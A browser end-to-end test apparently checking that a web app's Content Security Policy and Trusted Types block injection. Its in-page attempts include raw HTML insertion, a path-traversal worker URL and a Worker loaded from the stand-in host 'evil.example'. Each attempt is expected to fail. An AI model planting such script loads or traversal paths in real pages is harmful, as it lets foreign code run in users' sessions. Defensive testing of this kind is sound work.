import { expect, offlineTest as test } from '../fixtures.ts';
import { addFolder, connect, itemRow } from '../harness/browser-actions.ts';
import { syncIdle } from '../harness/device.ts';
import { landing } from '../lane.ts';

test(
  'the page works where texts cannot become HTML or code, and an injected one is refused',
  landing,
  async ({ person, device, page }) => {
    await device.signIn(person);
    await connect(page);
    await addFolder(page, 'Trusted');
    await syncIdle(page);
    for (const address of ['/account', '/drive']) await page.goto(address);
    await expect(itemRow(page, 'Trusted')).toBeVisible();
    expect(device.complaints()).toEqual([]);
    await expect
      .poll(() => page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.active?.state))
      .toBe('activated');

    const complaints = device.complaints() as string[];
    const refused = await page.evaluate(() => {
      const tries = {
        html: () => document.body.insertAdjacentHTML('beforeend', '<img src="x">'),
        inner: () => {
          document.createElement('div').innerHTML = '<b>x</b>';
        },
        worker: () => new Worker('/assets/../api/config'),
        foreign: () => new Worker('https://evil.example/assets/x.js'),
        policy: () =>
          (
            globalThis as unknown as {
              trustedTypes: { createPolicy(name: string, rules: object): unknown };
            }
          ).trustedTypes.createPolicy('mine', {}),
      };
      return Object.entries(tries).map(([name, attempt]) => {
        try {
          attempt();
          return `${name} went through`;
        } catch (error) {
          return `${name}: ${error instanceof TypeError ? 'TypeError' : String(error)}`;
        }
      });
    });
    expect(refused).toEqual([
      'html: TypeError',
      'inner: TypeError',
      'worker: TypeError',
      'foreign: TypeError',
      'policy: TypeError',
    ]);
    await expect.poll(() => complaints.length).toBeGreaterThan(0); // Chromium says what it refused
    expect(
      complaints
        .splice(0)
        .filter((said) => !/TrustedHTML|TrustedScript|Content Security Policy|policy/i.test(said)),
    ).toEqual([]);
  },
);
